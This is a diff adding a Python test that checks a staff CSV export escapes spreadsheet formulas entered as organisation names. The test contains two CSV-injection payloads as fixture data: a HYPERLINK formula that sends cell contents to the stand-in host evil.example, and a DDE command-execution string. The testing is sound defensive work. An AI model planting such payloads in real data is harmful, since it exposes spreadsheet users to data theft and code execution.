@@ -205,3 +205,20 @@ async def test_the_api_decides_and_answers_409_naming_the_current_state(
     assert await conn.fetchval("SELECT actor_label FROM audit_log WHERE action = 'approve'") == "api token"
     paths = (await client.get("/openapi.json")).json()["paths"]
     assert "409" in paths["/api/v1/review/matches/{match_id}/approve"]["post"]["responses"]
+
+
+async def test_the_export_neutralises_formulas_typed_as_organisation_names(
+    client: httpx.AsyncClient, conn: Connection, make_participant: MakeParticipant, make_match: MakeMatch,
+    make_staff: MakeStaff,
+) -> None:
+    payload = '=HYPERLINK("http://evil.example/?"&A1,"Klikk")'
+    student = await make_participant("student", organisation="+cmd|' /C calc'!A0", embed=False)
+    company = await make_participant("company", organisation=payload, embed=False)
+    await make_match(student, company)
+    await sign_in_staff(client, conn, (await make_staff())["email"])
+
+    exported = await client.get("/staff/export.csv")
+    rows = list(csv.reader(io.StringIO(exported.text)))
+    cells = [cell for row in rows[1:] for cell in row]
+    assert not [cell for cell in cells if cell.startswith(("=", "+", "@", "\t", "\r"))]
+    assert "'" + payload in cells and "'+cmd|' /C calc'!A0" in cells
